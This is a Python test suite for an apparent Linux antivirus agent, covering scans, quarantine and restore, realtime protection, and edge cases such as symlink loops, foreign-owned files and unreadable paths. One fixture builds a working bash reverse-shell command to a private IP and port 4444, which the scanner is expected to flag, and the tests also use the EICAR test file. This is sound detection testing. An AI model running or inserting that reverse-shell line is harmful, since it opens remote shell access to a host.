"""Scans and real-time protection on temporary trees: what a scan reaches, what it leaves alone, how it ends."""

import os
import shutil
import stat
import time

import records_schema as R
from conftest import EICAR, Agent, deep_file, finished_scan, scan, wait_for, write

# A reverse shell, assembled at run time so that this file does not hold one.
REVERSE_SHELL = b"#!/bin/sh\nbash -i >& " + b"/dev/" + b"tcp/10.9.8.7/4444 0>&1\n"
NO_DAC = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--"]  # root, but file modes apply


def make_tree(root, count, size=64):
    for i in range(count):
        sub = os.path.join(root, f"d{i % 10}")
        os.makedirs(sub, exist_ok=True)
        with open(os.path.join(sub, f"f{i}.txt"), "wb") as fh:
            fh.write(os.urandom(size))


class TestQuickScan:
    def test_eicar_is_one_threat_found_by_both_engines_and_quarantined(self, agent):
        target = os.path.join(agent.desktop, "sub", "eicar.com")
        agent.data("settings.set", values={"realtime_enabled": False})
        write(target, EICAR)
        make_tree(agent.downloads, 30)
        status = agent.data("scan.start", kind="quick")
        assert status["running"] is True and status["kind"] == "quick" and "outcome" not in status
        done = finished_scan(agent)
        R.check(done, R.SCAN)
        assert done["scanned"] >= 31 and done["finished"] >= done["started"] and done["outcome"] == "finished"
        assert set(done["locations"]) == {agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm}
        threats = [t for t in agent.data("threats") if t.get("path") == target]
        assert len(threats) == 1, threats
        t = threats[0]
        assert t["kind"] == "signature" and t["status"] == "quarantined" and t["signature"] == "EICAR-Test-File"
        assert "signature: EICAR-Test-File" in t["description"] and "yara: EICAR_Test_File" in t["description"]
        assert not os.path.exists(target)
        entries = agent.data("quarantine.list")
        assert len(entries) == 1 and entries[0]["original_path"] == target and entries[0]["size"] == len(EICAR)
        assert EICAR not in open(entries[0]["vault_path"], "rb").read()  # obfuscated in the vault
        m = agent.data("metrics.live")
        assert m["engines"]["signature"]["hits"] == 1 and m["engines"]["yara"]["hits"] == 1
        dirs = m["active_scan_dirs"]
        assert dirs[agent.desktop]["hits"] == 1 and dirs[agent.downloads]["scanned"] == 30
        summary = agent.data("summary")
        assert summary["quarantined"] == 1 and summary["threats_total"] == 1 and summary["threats_active"] == 0

    def test_open_threat_is_not_raised_again_until_the_content_changes(self, agent):
        agent.data("settings.set", values={"auto_quarantine": False, "realtime_enabled": False})
        script = write(os.path.join(agent.tmp, "run.sh"), REVERSE_SHELL)
        scan(agent)
        scan(agent)
        threats = [t for t in agent.data("threats") if t.get("path") == script]
        assert len(threats) == 1 and threats[0]["kind"] == "yara" and threats[0]["status"] == "detected"
        assert threats[0]["signature"] == "Reverse_Shell" and os.path.exists(script)
        write(script, REVERSE_SHELL.replace(b"4444", b"5555"))
        scan(agent)
        assert len([t for t in agent.data("threats") if t.get("path") == script]) == 2
        assert agent.data("summary")["threats_active"] == 2

    def test_special_files_and_symlink_loops_are_skipped_and_realtime_off_is_off(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        os.mkfifo(os.path.join(agent.downloads, "pipe"))
        os.symlink(agent.downloads, os.path.join(agent.downloads, "loop"))
        os.symlink("/etc/passwd", os.path.join(agent.downloads, "passwd-link"))
        write(os.path.join(agent.downloads, "plain.txt"), b"hello")
        unscanned = write(os.path.join(agent.home, "eicar.com"))  # watched in real time, not scanned
        assert scan(agent, timeout=30)["scanned"] == 1
        time.sleep(2)
        assert os.path.exists(unscanned) and agent.data("threats") == []

    def test_second_start_is_refused_and_stop_is_prompt(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        make_tree(agent.downloads, 3000, size=2048)
        first = agent.data("scan.start", kind="quick")
        refused = agent.call("scan.start", kind="full")
        assert refused["ok"] is False and "already running" in refused["error"]
        assert agent.data("scan.status")["id"] == first["id"] and agent.data("scan.status")["kind"] == "quick"
        agent.data("scan.stop")
        started = time.monotonic()
        done = finished_scan(agent, 10)
        assert time.monotonic() - started < 5
        assert done["id"] == first["id"] and "finished" in done and done["outcome"] == "stopped"
        agent.stop()
        agent.start()
        again = agent.data("scan.status")  # the last scan's status outlives the agent
        assert (again["id"], again["running"], again["scanned"], again["outcome"]) == \
            (done["id"], False, done["scanned"], "stopped")

    def test_localised_folders_and_persistence_places_are_covered(self, agent):
        """The download folder as xdg-user-dir names it on a Romanian desktop, and ~/.config/autostart."""
        agent.stop()
        write(os.path.join(agent.home, ".config", "user-dirs.dirs"),
              'XDG_DOWNLOAD_DIR="$HOME/Descărcări"\n'.encode())
        downloads = os.path.join(agent.home, "Descărcări")
        write(os.path.join(downloads, "factura.pdf.exe"), EICAR)
        autostart = write(os.path.join(agent.home, ".config", "autostart", "upd.desktop"), EICAR)
        agent.start()
        agent.data("settings.set", values={"realtime_enabled": False})
        done = scan(agent)
        assert done["outcome"] == "finished" and downloads in done["locations"]
        paths = {e["original_path"] for e in agent.data("quarantine.list")}
        assert paths == {os.path.join(downloads, "factura.pdf.exe"), autostart}
        done = scan(agent, "full", 120)
        # System directories are left out in test mode; /tmp is the test's stand-in.
        assert done["locations"] == [agent.home, agent.tmp, agent.vartmp, agent.shm]
        started = [e for e in agent.data("events") if e["source"] == "scan" and "started" in e["action"]]
        assert agent.home in started[0]["target"]

class TestScanReach:
    def test_other_users_files_in_shared_directories_are_counted_not_touched(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        os.chmod(agent.tmp, 0o1777)  # shared and sticky, like /tmp
        theirs = write(os.path.join(agent.tmp, "theirs.com"), EICAR)
        os.chown(theirs, 4242, 4242)
        mine = write(os.path.join(agent.tmp, "mine.com"), EICAR)
        # A file someone else owns in a directory of this user's own is this user's business.
        given = write(os.path.join(agent.downloads, "given.com"), EICAR)
        os.chown(given, 4242, 4242)
        done = scan(agent)
        assert done["skipped_foreign"] == 1 and done["outcome"] == "finished"
        assert os.path.exists(theirs) and not os.path.exists(mine) and not os.path.exists(given)
        assert {t["path"] for t in agent.data("threats")} == {mine, given}
        end = next(e for e in agent.data("events") if e["source"] == "scan" and "finished" in e["action"])
        assert "1 files of other users left alone" in end["action"]

    def test_names_not_utf8_or_beyond_path_max_are_scanned_quarantined_and_restored_exactly(self, agent):
        agent.data("settings.set", values={"realtime_enabled": False})
        raw_dir = os.fsencode(agent.downloads)
        names = [b"\xffevil.com", b"ok-\xe9.txt", b"plain.com"]
        for name in names:
            with open(os.path.join(raw_dir, name), "wb") as fh:
                fh.write(EICAR)
        with open(os.path.join(raw_dir, b"clean-\xfe.txt"), "wb") as fh:
            fh.write(b"nothing here\n")
        done = scan(agent)
        assert done["outcome"] == "finished" and done["scanned"] == 4
        shown = sorted(t["path"] for t in agent.data("threats"))
        assert shown == sorted(os.path.join(agent.downloads, n.decode("utf-8", "replace")) for n in names)
        assert os.listdir(raw_dir) == [b"clean-\xfe.txt"]
        for entry in agent.data("quarantine.list"):
            agent.data("quarantine.restore", id=entry["id"])
        assert sorted(os.listdir(raw_dir)) == sorted(names + [b"clean-\xfe.txt"])
        assert open(os.path.join(raw_dir, b"\xffevil.com"), "rb").read() == EICAR
        # And a path longer than PATH_MAX.
        target = deep_file(agent.downloads, EICAR)
        done = scan(agent)
        assert done["outcome"] == "finished" and done["unreadable"] == 0
        assert [e["original_path"] for e in agent.data("quarantine.list")] == [target]
        shutil.rmtree(os.path.join(agent.downloads, "00" + "d" * 199))

    def test_unreadable_files_are_counted_and_reported_and_nothing_readable_means_failed(self, home):
        agent = Agent(home, prefix=NO_DAC)
        agent.start()
        try:
            agent.data("settings.set", values={"realtime_enabled": False})
            locked = write(os.path.join(agent.downloads, "locked.bin"), b"secret", mode=0)
            write(os.path.join(agent.downloads, "open.txt"), b"hello")
            done = scan(agent)
            assert done["outcome"] == "finished" and done["unreadable"] == 1 and done["scanned"] == 1
            events = agent.data("events")
            assert any(e.get("target") == locked and "Permission denied" in e["action"] for e in events)
            for location in (agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm):
                os.chmod(location, 0)
            done = scan(agent)
            assert done["outcome"] == "failed" and done["error"] == "none of the locations could be opened"
            assert done["unreadable"] == 5
        finally:
            for location in (agent.downloads, agent.desktop, agent.tmp, agent.vartmp, agent.shm):
                os.chmod(location, stat.S_IRWXU)
            agent.stop()


class TestRealtime:
    def test_user_signature_list_is_used(self, home):
        import hashlib
        a = Agent(home)
        blob = b"harmless content the user wants flagged\n"
        write(os.path.join(a.data_dir, "signatures.txt"),
              f"# mine\n{hashlib.sha256(blob).hexdigest()} low My Own Signature\nnot-a-hash\n".encode())
        a.start()
        try:
            a.data("settings.set", values={"auto_quarantine": False})
            write(os.path.join(a.downloads, "x.bin"), blob)
            t = wait_for(lambda: a.data("threats"), 15, what="user signature hit")[0]
            assert t["signature"] == "My_Own_Signature" and t["severity"] == "low" and t["kind"] == "signature"
        finally:
            a.stop()

